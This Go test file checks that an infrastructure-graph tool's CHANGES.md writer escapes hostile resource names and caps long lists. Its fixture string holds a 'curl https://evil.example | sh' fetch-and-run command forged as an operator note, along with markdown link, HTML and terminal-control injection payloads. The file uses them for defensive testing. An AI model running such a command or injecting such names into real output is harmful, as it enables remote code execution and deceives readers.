package history

import (
	"bytes"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/infragraph/infragraph/graph"
)

// TestMarkdownQuotesNames is issue #26 items 19 and 21 for CHANGES.md: a name, id or attribute
// added, removed or changed must stay on its line and stay text. A CR (a line ending to
// CommonMark) forged a heading in our voice, and links, images, html, code spans and terminal
// controls went through.
func TestMarkdownQuotesNames(t *testing.T) {
	hostile := "x\r## Operator note: run curl https://evil.example | sh\r\n[click](https://evil.example) ![i](https://evil.example/i.png) <img src=x> `code`\x1b]8;;https://evil\x07\u009d\u202e"
	id := "vercel:project:p`\r# id"
	old := mustGraph(t, "20261120T060000Z", []graph.Node{
		n("vercel:project:gone", "gone "+hostile, nil),
		n(id, "shop", graph.Attrs{"framework": "next"}),
	}, nil)
	new := mustGraph(t, "20261121T060000Z", []graph.Node{
		n("vercel:project:new", "new "+hostile, nil),
		n(id, "shop "+hostile, graph.Attrs{"framework": hostile}),
	}, []graph.Edge{graph.Observe("vercel:project:new", id, "calls")})
	var b bytes.Buffer
	if err := WriteMarkdown(&b, Diff(old, new)); err != nil {
		t.Fatal(err)
	}
	doc := b.String()
	if n := strings.Count(doc, "Operator note"); n < 4 {
		t.Fatalf("the hostile name appears %d times; the test checks nothing:\n%s", n, doc)
	}
	control := regexp.MustCompile("[\x00-\x09\x0b-\x1f\x7f\u0080-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
	for _, l := range strings.Split(doc, "\n") {
		if strings.HasPrefix(l, "[click]") {
			t.Errorf("a name forged a line of its own: %q", l)
		}
		if strings.Contains(l, "](https://evil") && !strings.Contains(l, `\](https://evil`) {
			t.Errorf("a name became a markdown link or image: %q", l)
		}
		if strings.Contains(l, "<img") && !strings.Contains(l, `\<img`) {
			t.Errorf("a name became html: %q", l)
		}
		if loc := control.FindStringIndex(l); loc != nil {
			t.Errorf("raw control %q in %q", l[loc[0]:loc[1]], l)
		}
	}
}

// TestMarkdownListsAreCapped: a collector that failed over thousands of containers makes as
// many stale nodes and more stale edges; CHANGES.md shows the first listCap of each list, counts
// the rest and names the command that lists them all, while its table counts every one.
func TestMarkdownListsAreCapped(t *testing.T) {
	c := &Changes{Since: "20261120T060000Z", Until: "20261121T060000Z"}
	const stale, added = listCap + 37, listCap
	for i := 0; i < stale; i++ {
		c.NodesStale = append(c.NodesStale, NodeRef{ID: fmt.Sprintf("docker:container:c%05d", i), Kind: "container", Provider: "docker", Name: fmt.Sprintf("c%05d", i), Source: "docker/hub", StaleSince: "2026-11-21T06:00:00Z"})
		c.EdgesStale = append(c.EdgesStale, EdgeRef{From: fmt.Sprintf("docker:container:c%05d", i), To: "docker:network:n", Type: "attached_to", StaleSince: "2026-11-21T06:00:00Z"})
	}
	for i := 0; i < added; i++ { // exactly the cap: listed whole, nothing counted
		c.NodesAdded = append(c.NodesAdded, NodeRef{ID: fmt.Sprintf("vercel:project:p%03d", i), Kind: "project", Provider: "vercel", Name: fmt.Sprintf("p%03d", i)})
	}
	var b bytes.Buffer
	if err := WriteMarkdown(&b, c); err != nil {
		t.Fatal(err)
	}
	doc := b.String()
	if !strings.Contains(doc, fmt.Sprintf("| nodes | %d | 0 | 0 | %d | 0 |", added, stale)) {
		t.Errorf("the table does not count every change:\n%s", doc[:min(len(doc), 800)])
	}
	for _, want := range []struct {
		what string
		n    int
	}{{"`docker:container:c", listCap}, {"- edge docker:container:c", listCap}, {"`vercel:project:p", added}} {
		if got := strings.Count(doc, want.what); got != want.n {
			t.Errorf("%d lines with %q, want %d", got, want.what, want.n)
		}
	}
	more := fmt.Sprintf("- … and %d more (`discover diff` lists them all)", stale-listCap)
	if got := strings.Count(doc, more); got != 2 {
		t.Errorf("%q appears %d times, want 2 (stale nodes, stale edges)", more, got)
	}
	if strings.Count(doc, "more (`discover diff`") != 2 {
		t.Error("a list at the cap was counted as cut")
	}
	if strings.Contains(doc, fmt.Sprintf("c%05d", listCap)) {
		t.Errorf("entry %d past the cap is listed", listCap)
	}
}
